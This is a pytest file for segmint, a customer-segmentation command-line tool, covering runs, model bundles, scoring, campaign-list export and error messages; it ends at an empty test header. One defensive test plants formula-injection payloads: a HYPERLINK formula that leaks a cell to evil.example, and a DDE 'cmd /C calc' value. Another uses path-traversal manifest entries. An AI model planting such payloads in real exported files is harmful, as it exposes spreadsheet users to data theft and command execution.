"""`segmint run`, the model bundle, `score`, `export`, `init`: the product end to end."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

import segmint
from segmint.bundle import _metadata_digest
from segmint.config import RunConfig, init_toml, load_run_config
from segmint.datasets import make_transactions
from segmint.errors import BundleError
from segmint.pipeline import RUN_FILES

SEGMINT = Path(sys.executable).with_name("segmint")


def _assert_one_line_error(result, *needles: str) -> None:
    assert result.code == 2, (result.code, result.err)
    lines = result.err.strip().splitlines()
    assert lines[0].startswith("Error: "), result.err
    for needle in needles:
        assert needle in lines[0], (needle, lines[0])
    assert "Traceback" not in result.err + result.out


@pytest.fixture(scope="module")
def shop_csv(tmp_path_factory) -> Path:
    lines, _ = make_transactions(n_customers=800, seed=3)
    path = tmp_path_factory.mktemp("shop") / "shop.csv"
    lines.to_csv(path, index=False)
    return path


@pytest.fixture(scope="module")
def shop_run(shop_csv: Path, tmp_path_factory) -> Path:
    from segmint.cli import main

    out = tmp_path_factory.mktemp("runs") / "run"
    assert main(["--quiet", "run", str(shop_csv), "--out", str(out), "--k-max", "8"]) == 0
    return out


# -- the whole run -------------------------------------------------------------------


def test_run_online_retail_writes_every_output(cli, online_retail: Path, tmp_path: Path) -> None:
    out = tmp_path / "retail"
    r = cli("run", online_retail, "--out", out)
    assert r.code == 0, r.err
    for name in RUN_FILES:
        assert (out / name).is_file(), name
    charts = sorted(p.name for p in (out / "charts").iterdir())
    assert "snake_plot.png" in charts and "snake_plot.svg" in charts
    customers = pd.read_parquet(out / "customers.parquet")
    audit = json.loads((out / "audit.json").read_text())
    assert len(customers) == audit["kept_customers"]
    assert customers["customer_id"].is_unique
    for col in ("segment_id", "segment_name", "action", "rfm_segment", "confidence"):
        assert customers[col].notna().all(), col
    run_info = json.loads((out / "run.json").read_text())
    assert run_info["input"]["source"] == "online_retail.csv.gz"
    assert len(run_info["input"]["sha256"]) == 64
    assert set(run_info["timings"]) >= {"load", "clean", "features", "segment", "report"}
    assert "segments of 4,334 customers" in r.out
    assert f"Report: {out / 'report.html'}" in " ".join(r.out.split())
    assert not list(tmp_path.glob(".retail.*"))  # no temporary folders left
    html = (out / "report.html").read_text()
    # BG/NBD finds almost no drop-out in one year of Online Retail (a = 0.006, b = 23.5):
    # the report says why P(active) is ~100 % beside a "Dormant" segment
    assert 'id="clv-alive-note"' in html and "is 0.03 %" in html
    # every line feature has a histogram, monetary (with negative customers) on a log axis
    assert "total_quantity" in html and "monetary (log scale)" in html
    # recency is coloured the other way round: the lapsed segment's high index is red
    seg = pd.read_csv(out / "segments.csv").sort_values("index_recency_days")
    worst = f"{seg['index_recency_days'].iloc[-1]:,.0f}"
    assert f'<td class="bad">{worst}</td>' in html
    # the 99 returns of 28 customers with no purchase are in no customer's revenue: said
    # in the terminal, the report and summary.json (the audit's kept value plus returns
    # is 3,922.98 below the customers' net revenue)
    said = "99 return lines (value 3,922.98) of 28 customers with no purchase"
    assert said in " ".join(r.err.split())
    assert 'id="returns-left-out"' in html and said in html
    summary = json.loads((out / "summary.json").read_text())
    left = summary["data"]["returns_left_out"]
    assert left == {"no_purchase": {"lines": 99, "value": 3922.98, "customers": 28}}


def test_run_on_a_table_of_recency_frequency_and_monetary(
    cli, retail_pandas: pd.DataFrame, tmp_path: Path
) -> None:
    """A customer-level table of ``customer_id, recency, frequency, monetary`` (which the
    README says is recognised) runs end to end: it has no tenure, so the default
    segmentation leaves tenure out instead of refusing a column of nulls as "not
    numeric", and lifetime value (which needs first purchase dates) is left out with a
    note instead of failing the run; the model then scores the same table."""
    raw = retail_pandas.dropna(subset=["CustomerID"])
    raw = raw[~raw["InvoiceNo"].str.startswith("C")]
    day = pd.to_datetime(raw["InvoiceDate"]).dt.normalize()
    snapshot = day.max() + pd.Timedelta(days=1)
    table = (
        raw.assign(day=day, value=raw["Quantity"] * raw["UnitPrice"])
        .groupby("CustomerID")
        .agg(last=("day", "max"), frequency=("InvoiceNo", "nunique"), monetary=("value", "sum"))
    )
    table = table[table["monetary"] > 0]
    path = tmp_path / "rfm.csv"
    pd.DataFrame(
        {
            "customer_id": table.index.astype(str),
            "recency": (snapshot - table["last"]).dt.days,
            "frequency": table["frequency"],
            "monetary": table["monetary"].round(2),
        }
    ).to_csv(path, index=False)

    out = tmp_path / "run"
    r = cli("run", path, "--out", out, "--algorithm", "kmeans")
    assert r.code == 0, r.err
    customers = pd.read_parquet(out / "customers.parquet")
    assert len(customers) == len(table)
    assert "tenure_days" not in customers.columns
    assert customers["segment_name"].notna().all()
    info = json.loads((out / "run.json").read_text())
    assert "first_purchase" in info["clv_note"] and "lifetime value left out" in info["clv_note"]
    said = " ".join(r.err.split())
    assert "Note: lifetime value left out: the customer table lacks first_purchase" in said
    assert not (out / "clv.json").exists()
    scored = tmp_path / "scored.csv"
    assert cli("score", out, path, "--out", scored).code == 0
    assert (pd.read_csv(scored)["segment_id"] == customers["segment_id"]).all()
    # asked for on its own, lifetime value is a one-line error naming what is missing
    _assert_one_line_error(cli("clv", path), "first_purchase", "lifetime value")


def test_same_input_and_seed_same_results(shop_csv: Path, shop_run: Path, tmp_path: Path) -> None:
    from segmint.cli import main

    again = tmp_path / "again"
    assert main(["--quiet", "run", str(shop_csv), "--out", str(again), "--k-max", "8"]) == 0
    a = pd.read_parquet(shop_run / "customers.parquet")
    b = pd.read_parquet(again / "customers.parquet")
    pd.testing.assert_frame_equal(a, b, check_exact=True)  # bit for bit, floats included
    sa = json.loads((shop_run / "summary.json").read_text())
    sb = json.loads((again / "summary.json").read_text())
    sa.pop("generated_at"), sb.pop("generated_at")
    assert sa == sb
    assert (shop_run / "segments.csv").read_bytes() == (again / "segments.csv").read_bytes()
    assert (shop_run / "selection.csv").read_text().count("\n") == len(
        pd.read_csv(again / "selection.csv")
    ) + 1
    # the same model, the same id (skops names members after object ids, and the fit's
    # duration was stored in it: a retrain on unchanged data changed model_id)
    ma, mb = (segmint.load_model(d / "model.segmint") for d in (shop_run, again))
    assert ma.model_id == mb.model_id and len(ma.model_id) == 16


def test_bundle_round_trip_in_a_fresh_process(shop_csv: Path, shop_run: Path, tmp_path: Path):
    out = tmp_path / "scored.parquet"
    proc = subprocess.run(
        [SEGMINT, "score", shop_run / "model.segmint", shop_csv, "--out", out],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr
    scored = pd.read_parquet(out)
    run = pd.read_parquet(shop_run / "customers.parquet")
    assert list(scored.columns)[:7] == [
        "customer_id",
        "segment_id",
        "segment_name",
        "action",
        "rfm_score",
        "rfm_segment",
        "rfm_rule_set",
    ]
    assert set(scored["rfm_rule_set"]) == set(run["rfm_rule_set"]) == {"rf-grid v1"}
    # every row says which model and which date it comes from
    model = segmint.load_model(shop_run / "model.segmint")
    assert list(scored.columns)[-2:] == ["snapshot_date", "model_id"]
    assert (scored["model_id"] == model.model_id).all()
    assert scored["snapshot_date"].astype(str).eq(model.metadata["snapshot_date"]).all()
    merged = run.merge(scored, on="customer_id", suffixes=("", "_scored"), validate="1:1")
    assert len(merged) == len(run) == len(scored)
    assert (merged["segment_id"] == merged["segment_id_scored"]).all()
    assert (merged["segment_name"] == merged["segment_name_scored"]).all()
    assert (merged["rfm_segment"] == merged["rfm_segment_scored"]).all()
    pd.testing.assert_series_equal(
        merged["confidence"], merged["confidence_scored"], check_names=False, check_exact=True
    )
    assert not scored["out_of_range"].any()


def test_a_run_folder_stands_for_its_model(cli, shop_csv: Path, shop_run: Path, tmp_path: Path):
    out = tmp_path / "by_folder.parquet"
    r = cli("score", shop_run, shop_csv, "--out", out)
    assert r.code == 0, r.err
    run = pd.read_parquet(shop_run / "customers.parquet")
    assert pd.read_parquet(out)["segment_id"].tolist() == run["segment_id"].tolist()
    r = cli("score", tmp_path, shop_csv, "--out", tmp_path / "x.parquet")
    assert r.code == 2 and "is a folder without a model.segmint" in r.err


def test_python_api_and_scoring_a_feature_table(shop_run: Path, tmp_path: Path) -> None:
    model = segmint.load_model(shop_run / "model.segmint")
    run = pd.read_parquet(shop_run / "customers.parquet")
    assert (model.predict(run) == run["segment_id"].to_numpy()).all()
    assert model.names == {
        int(k): v for k, v in json.loads((shop_run / "run.json").read_text())["segments"].items()
    }
    # a feature table with segmint's metadata is scored as it is
    scored = model.score(shop_run / "customers.parquet")
    assert (scored["segment_id"].to_numpy() == run["segment_id"].to_numpy()).all()
    # customers outside the training range are reported, not silently extrapolated
    odd = run.head(3).copy()
    odd.loc[odd.index[0], "monetary"] = 1e9
    flagged = model.assign(odd)
    assert flagged["out_of_range"].tolist() == [True, False, False]
    assert flagged["out_of_range_features"].iloc[0] == "monetary"
    # no customers: an empty table of the same columns (was a scikit-learn ValueError)
    empty = model.assign(run.head(0))
    assert empty.empty and list(empty.columns) == list(flagged.columns)
    assert model.metadata["training"]["customers"] == len(run)
    assert model.metadata["versions"]["segmint"] == segmint.__version__


def test_scoring_a_feature_table_of_another_window_warns(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """A feature table is scored as it is: one computed over 6 months, given to a model
    fitted on all history, was scored without a word (its frequencies and amounts are
    of another period)."""
    model = segmint.load_model(shop_run / "model.segmint")
    same = model.score(shop_run / "customers.parquet")
    assert not any("window" in note for note in same.attrs["notes"])
    table = tmp_path / "six_months.parquet"
    assert cli("features", shop_csv, "--out", table, "--window", "6M").code == 0
    notes = model.score(table).attrs["notes"]
    assert any("a 6M window, the model's over all history" in note for note in notes), notes
    r = cli("score", shop_run, table, "--out", tmp_path / "s.parquet", "--json")
    assert r.code == 0, r.err
    assert any("6M window" in note for note in json.loads(r.out)["notes"])


def test_run_python_api_in_memory() -> None:
    lines, _ = make_transactions(n_customers=300, seed=5)
    result = segmint.run(lines, {"segment": {"algorithm": "kmeans", "n_clusters": 3}})
    assert result.segmenter.n_segments_ == 3
    assert result.out is None
    assert result.customers["segment_name"].nunique() == 3
    assert result.report.summary["data"]["customers"] == len(result.customers)


def _after(columns: list[str], column: str) -> str:
    """The column right after ``column``."""
    return columns[columns.index(column) + 1]


def test_every_output_with_rfm_segments_names_their_rule_set(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
    """The same RFM segment names mean other cells in other rule sets: every table that
    carries rfm_segment (customers.parquet, segments.csv, score --out, features --out,
    the campaign lists) says which rule set and version named them, in the column after
    it, for a spreadsheet user and a program alike. Only the report and /v1/model did."""
    rules = tmp_path / "mine.toml"
    rules.write_text(
        'name = "my-grid"\nversion = "2"\n'
        '[[segment]]\nname = "Champions"\nr = [4, 5]\nf = [4, 5]\n'
        '[[segment]]\nname = "Rest"\n'
    )
    out = tmp_path / "run"
    r = cli("--quiet", "run", shop_csv, "--out", out, "--rule-set", rules, "--k-max", "3")
    assert r.code == 0, r.err
    customers = pd.read_parquet(out / "customers.parquet")
    assert _after(list(customers.columns), "rfm_segment") == "rfm_rule_set"
    assert set(customers["rfm_rule_set"]) == {"my-grid v2"}
    assert set(customers["rfm_segment"]) == {"Champions", "Rest"}
    segments = pd.read_csv(out / "segments.csv")
    assert _after(list(segments.columns), "top_rfm_segments") == "rfm_rule_set"
    assert set(segments["rfm_rule_set"]) == {"my-grid v2"}
    # the chart of segments against RFM segments, also written alone, names it too
    assert "RFM segment (my-grid v2)" in (out / "charts" / "segments_vs_rfm.svg").read_text()
    for name in ("scored.csv", "scored.parquet"):
        r = cli("--quiet", "score", out, shop_csv, "--out", tmp_path / name)
        assert r.code == 0, r.err
        scored = (pd.read_csv if name.endswith(".csv") else pd.read_parquet)(tmp_path / name)
        assert _after(list(scored.columns), "rfm_segment") == "rfm_rule_set"
        assert set(scored["rfm_rule_set"]) == {"my-grid v2"}
    r = cli("--quiet", "features", shop_csv, "--out", tmp_path / "f.csv", "--rule-set", rules)
    assert r.code == 0, r.err
    features = pd.read_csv(tmp_path / "f.csv")
    assert _after(list(features.columns), "rfm_segment") == "rfm_rule_set"
    assert set(features["rfm_rule_set"]) == {"my-grid v2"}
    r = cli("export", out, "--single-file", "--out", tmp_path / "lists")
    assert r.code == 0, r.err
    lst = pd.read_csv(tmp_path / "lists" / "campaign.csv")
    assert _after(list(lst.columns), "rfm_segment") == "rfm_rule_set"
    assert set(lst["rfm_rule_set"]) == {"my-grid v2"}
    manifest = json.loads((tmp_path / "lists" / "exports.json").read_text())
    assert manifest["rfm_rule_set"] == "my-grid v2"
    # a run folder of an earlier segmint (no such column): the list takes the rule set
    # from the table's metadata
    import pyarrow.parquet as pq

    table = pq.read_table(out / "customers.parquet")
    pq.write_table(table.drop(["rfm_rule_set"]), out / "customers.parquet")
    r = cli("export", out, "--single-file", "--out", tmp_path / "old")
    assert r.code == 0, r.err
    lst = pd.read_csv(tmp_path / "old" / "campaign.csv")
    assert _after(list(lst.columns), "rfm_segment") == "rfm_rule_set"
    assert set(lst["rfm_rule_set"]) == {"my-grid v2"}


def test_a_rule_table_stored_in_the_model_keeps_its_name(
    shop_csv: Path, tmp_path: Path, caplog
) -> None:
    """A model reads its stored rule table from a temporary copy: a CSV table took that
    file's name, so the scores' warnings named "tmpk3x9_ (user table)" instead of the
    table the model was trained with."""
    rules = tmp_path / "crm.csv"
    rules.write_text("segment,r_min,r_max,f_min,f_max,m_min,m_max\nTop,5,5,1,5,1,5\n")
    out = tmp_path / "run"
    segmint.run(
        str(shop_csv),
        {"rfm": {"rule_set": str(rules)}, "segment": {"algorithm": "kmeans", "n_clusters": 3}},
        out=out,
    )
    caplog.clear()
    model = segmint.load_model(out / "model.segmint")  # loads the stored table
    assert model.rfm_rule_set == "crm (user table)"
    scored = model.score(str(shop_csv))
    assert set(scored["rfm_rule_set"]) == {"crm (user table)"}
    assert set(scored["rfm_segment"]) == {"Top", "Others"}
    said = [r.getMessage() for r in caplog.records if r.name == "segmint.rfm"]
    assert said and all(m.startswith("rule set crm (user table): ") for m in said), said
    # the service's fast path says the same
    customers = pd.read_parquet(out / "customers.parquet")
    fast = model.assign_columns(
        {c: customers[c].to_numpy() for c in model.features}, customers["customer_id"]
    )
    assert set(fast["rfm_rule_set"]) == {"crm (user table)"}


def test_export_campaign_lists(cli, shop_run: Path, tmp_path: Path) -> None:
    customers = pd.read_parquet(shop_run / "customers.parquet")
    name = customers["segment_name"].iloc[0]
    r = cli("export", shop_run, "--segment", name.lower(), "--out", tmp_path / "lists")
    assert r.code == 0, r.err
    files = [f for f in (tmp_path / "lists").iterdir() if f.name != "exports.json"]
    assert len(files) == 1 and files[0].suffix == ".csv"
    lst = pd.read_csv(files[0], dtype={"customer_id": str})
    assert set(lst["customer_id"]) == set(
        customers.loc[customers.segment_name == name, "customer_id"]
    )
    assert list(lst.columns)[:4] == ["customer_id", "segment_id", "segment_name", "action"]
    # traceable to its run: the snapshot date and the model id, the same on every row
    meta = json.loads(zipfile.ZipFile(shop_run / "model.segmint").read("metadata.json"))
    assert set(lst["model_id"]) == {segmint.load_model(shop_run / "model.segmint").model_id}
    assert set(lst["model_id"]) == {meta["model_content_sha256"][:16]}
    assert set(lst["snapshot_date"]) == {str(meta["snapshot_date"])}
    assert "clv_value" in lst.columns
    assert (lst["monetary"] == lst["monetary"].round(2)).all()
    r = cli("export", shop_run, "--format", "xlsx", "--single-file", "--out", tmp_path / "x")
    assert r.code == 0, r.err
    book = pd.read_excel(
        tmp_path / "x" / "campaign.xlsx", dtype={"customer_id": str}, engine="calamine"
    )
    assert len(book) == len(customers)
    assert book["segment_name"].nunique() == customers["segment_name"].nunique()
    # a later export into the same folder replaces the earlier one's files (listed in
    # exports.json); a file segmint did not write stays
    lists = tmp_path / "lists"
    (lists / "notes.txt").write_text("mine")
    r = cli("export", shop_run, "--out", lists)
    assert r.code == 0, r.err
    manifest = json.loads((lists / "exports.json").read_text())
    names = {f["file"] for f in manifest["files"]}
    assert len(names) == customers["segment_name"].nunique()
    assert {f.name for f in lists.iterdir()} == names | {"exports.json", "notes.txt"}
    r = cli("export", shop_run, "--segment", name, "--out", lists)
    assert r.code == 0, r.err
    assert {f.name for f in lists.iterdir()} == {files[0].name, "exports.json", "notes.txt"}
    assert json.loads((lists / "exports.json").read_text())["model_id"] == manifest["model_id"]


def test_campaign_lists_and_scores_neutralise_spreadsheet_formulas(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """A customer id or country from the raw data that starts with = + - @ ran as a
    formula when a marketer opened a campaign list or scored file in Excel; the xlsx
    export even stored it as a live formula."""
    import shutil

    import pyarrow.parquet as pq

    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    run = tmp_path / "run"
    shutil.copytree(shop_run, run)
    table = pq.read_table(run / "customers.parquet")
    frame = table.to_pandas()
    frame.loc[0, "customer_id"] = attack
    frame.loc[1, "country"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    frame.loc[2, "monetary"] = -12.5  # a net refund: a negative number stays a number
    pq.write_table(
        pa.Table.from_pandas(frame, preserve_index=False).replace_schema_metadata(
            table.schema.metadata
        ),
        run / "customers.parquet",
    )
    r = cli("export", run, "--single-file", "--out", tmp_path / "csv")
    assert r.code == 0, r.err
    text = (tmp_path / "csv" / "campaign.csv").read_text()
    lst = pd.read_csv(tmp_path / "csv" / "campaign.csv", dtype={"customer_id": str})
    assert "'" + attack in set(lst["customer_id"])
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in set(lst["country"])
    assert -12.5 in set(lst["monetary"]) and ",-12.5," in text
    assert pd.api.types.is_float_dtype(lst["monetary"])
    # a program that reads the list can have the values as they are
    r = cli("export", run, "--single-file", "--out", tmp_path / "raw", "--no-escape-formulas")
    assert r.code == 0, r.err
    raw = pd.read_csv(tmp_path / "raw" / "campaign.csv", dtype={"customer_id": str})
    assert attack in set(raw["customer_id"])
    # xlsx: text cells, never a formula or a link (xlsxwriter's default made both)
    r = cli("export", run, "--format", "xlsx", "--single-file", "--out", tmp_path / "x")
    assert r.code == 0, r.err
    with zipfile.ZipFile(tmp_path / "x" / "campaign.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    assert '<t>=HYPERLINK("http://evil.example/?"&amp;A1' in strings
    # segmint score --out scored.csv: the customer id from the raw data
    lines = pd.read_csv(shop_csv, dtype={"CustomerID": str})
    first = lines["CustomerID"].dropna().iloc[0]
    lines.loc[lines["CustomerID"] == first, "CustomerID"] = "-1+2"
    lines.to_csv(tmp_path / "new.csv", index=False)
    r = cli("score", shop_run, tmp_path / "new.csv", "--out", tmp_path / "scored.csv")
    assert r.code == 0, r.err
    scored = pd.read_csv(tmp_path / "scored.csv", dtype={"customer_id": str})
    assert "'-1+2" in set(scored["customer_id"]) and "-1+2" not in set(scored["customer_id"])
    assert pd.api.types.is_float_dtype(scored["distance"])
    r = cli(
        "score",
        shop_run,
        tmp_path / "new.csv",
        "--out",
        tmp_path / "raw.csv",
        "--no-escape-formulas",
    )
    assert r.code == 0, r.err
    assert "-1+2" in set(
        pd.read_csv(tmp_path / "raw.csv", dtype={"customer_id": str})["customer_id"]
    )


def test_a_tampered_export_manifest_removes_only_old_lists(
    cli, shop_run: Path, tmp_path: Path
) -> None:
    """exports.json is a file anyone can edit: an entry of ``..`` crashed the export, and
    any file of the folder it named was deleted. Now only campaign lists by name and
    content go; everything else stays and is named in a warning."""
    lists = tmp_path / "lists"
    name = pd.read_parquet(shop_run / "customers.parquet")["segment_name"].iloc[0]
    r = cli("export", shop_run, "--segment", name, "--out", lists)
    assert r.code == 0, r.err
    (ours,) = [f for f in lists.iterdir() if f.suffix == ".csv"]
    export = ours.read_text()
    kept = {
        "notes.txt": "mine",
        "customers.csv": "id,name\n1,Ana\n",  # a list-like name, not a list
        "scored.csv": "customer_id,segment_id,segment_name,action,rfm_score\n",
        "segment.xlsx": "not a workbook",
    }
    for file, text in kept.items():
        (lists / file).write_text(text)
    (lists / "old.csv").mkdir()
    (tmp_path / "outside.csv").write_text(export)
    (lists / "link.csv").symlink_to(tmp_path / "outside.csv")
    (lists / "stale_list.csv").write_text(export)  # a list of an earlier export: removed
    entries = ["..", ".", "", "../outside.csv", str(tmp_path / "outside.csv"), "a/b.csv"]
    entries += [*kept, "old.csv", "link.csv", "stale_list.csv", {"file": 5}, None, 7]
    (lists / "exports.json").write_text(json.dumps({"files": entries}))
    r = cli("export", shop_run, "--segment", name, "--out", lists)
    assert r.code == 0, r.err
    warning = " ".join(r.err.split())
    assert "did not remove" in warning and "'..'" in warning, warning
    present = {f.name for f in lists.iterdir()}
    assert present == {ours.name, "exports.json", "old.csv", "link.csv", *kept}
    assert (tmp_path / "outside.csv").read_text() == export
    assert all((lists / f).read_text() == t for f, t in kept.items())
    # manifests that are no list of files at all: ignored, never a crash
    for body in ('{"files": "notes.txt"}', '{"files": 3}', "[1, 2]", "{", '{"files": {}}'):
        (lists / "exports.json").write_text(body)
        r = cli("export", shop_run, "--segment", name, "--out", lists)
        assert r.code == 0, r.err
        assert {f.name for f in lists.iterdir()} == present


def test_names_and_actions_from_the_command_line(cli, shop_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "named"
    r = cli(
        "run",
        shop_csv,
        "--out",
        out,
        "--algorithm",
        "kmeans",
        "--k",
        "3",
        "--name",
        "0=Core buyers [VIP]",
        "--action",
        "0=Send the catalogue",
        "--name",
        "1=[/]",
    )
    assert r.code == 0, r.err  # "[/]" was read as a console tag and raised a traceback
    assert "[/]" in r.out and "Core buyers [VIP]" in r.out
    seg = pd.read_csv(out / "segments.csv")
    row = seg[seg["segment_id"] == 0].iloc[0]
    assert row["name"] == "Core buyers [VIP]" and row["action"] == "Send the catalogue"
    assert "Core buyers [VIP]" in (out / "report.html").read_text()
    assert segmint.load_model(out / "model.segmint").names[0] == "Core buyers [VIP]"


def test_categorical_features_from_the_command_line(cli, shop_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "with_country"
    r = cli("run", shop_csv, "--out", out, "--algorithm", "kmeans", "--k", "3",
            "--categorical", "country")  # fmt: skip
    assert r.code == 0, r.err
    model = segmint.load_model(out / "model.segmint")
    assert not model.numeric_only and "country" in model.features


def test_init_writes_every_option_and_flags_override_the_file(cli, tmp_path: Path) -> None:
    path = tmp_path / "segmint.toml"
    r = cli("init", path)
    assert r.code == 0, r.err
    text = path.read_text()
    assert text == init_toml()
    assert load_run_config(path) == RunConfig()
    for section in RunConfig.model_fields:
        assert f"[{section}]" in text
        for key in type(getattr(RunConfig(), section)).model_fields:
            assert f"{key} =" in text, key
    path.write_text(text.replace('algorithm = "auto"', 'algorithm = "gmm"'))
    cfg = load_run_config(path, {"segment.n_clusters": 4})
    assert cfg.segment.algorithm == "gmm" and cfg.segment.n_clusters == 4
    assert cli("init", path).code == 2  # never overwritten without --force


# -- bad input: one line, exit code 2, never a traceback -----------------------------


def _edited(run: Path, tmp: Path, name: str, member: str, edit) -> Path:  # noqa: ANN001
    """A copy of the run's bundle with one member's bytes passed through ``edit``."""
    src = zipfile.ZipFile(run / "model.segmint")
    out = tmp / name
    with zipfile.ZipFile(out, "w") as z:
        for item in src.namelist():
            data = src.read(item)
            z.writestr(item, edit(data) if item == member else data)
    return out


def _tampered(run: Path, tmp: Path) -> Path:
    """A few bits of the model flipped."""
    flip = lambda data: data[:-40] + bytes(b ^ 1 for b in data[-40:])  # noqa: E731
    return _edited(run, tmp, "tampered.segmint", "model.skops", flip)


def _renamed(run: Path, tmp: Path) -> Path:
    """Every segment renamed in metadata.json (the model untouched)."""

    def rename(data: bytes) -> bytes:
        meta = json.loads(data)
        meta["segment_names"] = dict.fromkeys(meta["segment_names"], "HACKED")
        return json.dumps(meta).encode()

    return _edited(run, tmp, "renamed.segmint", "metadata.json", rename)


def _foreign(run: Path, tmp: Path) -> Path:
    out = tmp / "foreign.segmint"
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "not a model")
    return out


def _old_features(run: Path, tmp: Path) -> Path:
    import pyarrow.parquet as pq

    table = pq.read_table(run / "customers.parquet")
    meta = json.loads(table.schema.metadata[b"segmint"])
    meta["feature_set_version"] = "0"
    out = tmp / "old_features.parquet"
    pq.write_table(table.replace_schema_metadata({b"segmint": json.dumps(meta).encode()}), out)
    return out


def _config(text: str):
    def make(run: Path, tmp: Path) -> Path:
        (p := tmp / "bad.toml").write_text(text)
        return p

    return make


BAD = {
    "missing data file": (["run", "{tmp}/nope.csv", "--out", "{tmp}/o"], ["nope.csv"]),
    "config not TOML": (
        ["run", "{csv}", "--config", "{cfg}", "--out", "{tmp}/o"],
        ["bad.toml", "TOML"],
        _config("[segment\nk = 3"),
    ),
    "unknown config key": (
        ["run", "{csv}", "--config", "{cfg}", "--out", "{tmp}/o"],
        ["unknown option 'segment.algoritm'"],
        _config('[segment]\nalgoritm = "kmeans"\n'),
    ),
    "unknown algorithm": (
        ["run", "{csv}", "--algorithm", "kmean", "--out", "{tmp}/o"],
        ["unknown algorithm 'kmean'", "did you mean 'kmeans'"],
    ),
    "k larger than customers": (
        ["run", "{csv}", "--k", "5000", "--out", "{tmp}/o"],
        ["5000 segments", "only 800 customers"],
    ),
    "k not a number": (["run", "{csv}", "--k", "many", "--out", "{tmp}/o"], ["--k 'many'"]),
    "k_min above k_max": (
        ["run", "{csv}", "--k-min", "6", "--k-max", "3", "--out", "{tmp}/o"],
        ["k_min (6)", "k_max (3)"],
    ),
    "too few customers": (["run", "{tiny}", "--out", "{tmp}/o"], ["customers"]),
    "output folder exists": (
        ["run", "{csv}", "--out", "{run}"],
        ["already exists"],
    ),
    "unwritable output": (["run", "{csv}", "--out", "/proc/segmint-out"], ["/proc"]),
    "model missing": (["score", "{tmp}/none.segmint", "{csv}", "--out", "{tmp}/s.csv"], ["none"]),
    "tampered bundle": (
        ["score", "{tampered}", "{csv}", "--out", "{tmp}/s.csv"],
        ["checksum"],
    ),
    "edited bundle metadata": (
        ["score", "{renamed}", "{csv}", "--out", "{tmp}/s.csv"],
        ["metadata.json does not match its checksum"],
    ),
    "foreign bundle": (
        ["score", "{foreign}", "{csv}", "--out", "{tmp}/s.csv"],
        ["not a segmint model bundle"],
    ),
    "feature-set mismatch": (
        ["score", "{model}", "{old}", "--out", "{tmp}/s.csv"],
        ["feature set", "segmint.customer v0"],
    ),
    "score output extension": (
        ["score", "{model}", "{csv}", "--out", "{tmp}/s.txt"],
        ["s.txt", "must end in .parquet"],
    ),
    "export unknown segment": (
        ["export", "{run}", "--segment", "Champs"],
        ["no segment named 'Champs'"],
    ),
    "export not a run": (["export", "{tmp}"], ["not a segmint run folder"]),
    "one segment": (["run", "{csv}", "--k", "1", "--out", "{tmp}/o"], ["fewer than 2 segments"]),
    "bad --name": (["run", "{csv}", "--name", "Champions", "--out", "{tmp}/o"], ["--name"]),
    "--name for a segment that does not exist": (
        ["run", "{csv}", "--k", "3", "--name", "7=VIP", "--out", "{tmp}/o"],
        ["no segment 7"],
    ),
}


@pytest.mark.parametrize("case", list(BAD))
def test_bad_input(cli, case: str, shop_csv: Path, shop_run: Path, tmp_path: Path) -> None:
    args, needles, *make = BAD[case]
    tiny = tmp_path / "tiny.csv"
    lines, _ = make_transactions(n_customers=50, seed=1)
    lines[lines["CustomerID"].isin(lines["CustomerID"].dropna().unique()[:2])].to_csv(
        tiny, index=False
    )
    values = {
        "tmp": str(tmp_path),
        "csv": str(shop_csv),
        "run": str(shop_run),
        "model": str(shop_run / "model.segmint"),
        "tiny": str(tiny),
        "cfg": str(make[0](shop_run, tmp_path)) if make else "",
        "tampered": str(_tampered(shop_run, tmp_path)),
        "foreign": str(_foreign(shop_run, tmp_path)),
        "renamed": str(_renamed(shop_run, tmp_path)),
        "old": str(_old_features(shop_run, tmp_path)),
    }
    result = cli(*[a.format(**values) for a in args])
    _assert_one_line_error(result, *needles)
    assert not (tmp_path / "o").exists()
    debug = cli("--debug", *[a.format(**values) for a in args])
    assert debug.code == 2 and "Traceback" in debug.err


def test_a_model_or_a_run_folder_given_as_data_says_what_it_is(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """A model where data goes was "unknown file type" with a hint to rename it; a run
    folder was read as a folder of Parquet parts and ended in "no line is left after
    cleaning"; data and model swapped in `score` did not say the model comes first."""
    model = shop_run / "model.segmint"
    out = tmp_path / "s.parquet"
    for args in (["inspect", model], ["run", model, "--out", tmp_path / "o"]):
        r = cli(*args)
        _assert_one_line_error(r, "model.segmint: is a segmint model, not data")
        assert "segmint score MODEL DATA" in r.err
    for args in (
        ["run", shop_run, "--out", tmp_path / "o"],
        ["score", model, shop_run, "--out", out],
    ):
        r = cli(*args)
        _assert_one_line_error(r, "is a folder of segmint results", "not input data")
        assert f"segmint score {shop_run} DATA" in r.err
    r = cli("score", shop_csv, model, "--out", out)
    _assert_one_line_error(r, "not a segmint model bundle")
    assert "the model comes first, then the data" in r.err
    assert not out.exists() and not (tmp_path / "o").exists()


def test_a_model_of_an_older_feature_set_says_to_train_again(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """The hint said "rebuild the features", which a user cannot do for a model."""

    def old(data: bytes) -> bytes:
        meta = json.loads(data)
        meta["feature_set_version"] = "0"
        meta["metadata_sha256"] = _metadata_digest(meta)
        return json.dumps(meta).encode()

    model = _edited(shop_run, tmp_path, "old.segmint", "metadata.json", old)
    r = cli("score", model, shop_csv, "--out", tmp_path / "s.parquet")
    _assert_one_line_error(r, "old.segmint: was trained on feature set segmint.customer v0")
    assert "train the model again" in r.err and "rebuild the features" not in r.err


def test_data_without_a_column_the_model_used_names_the_column(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
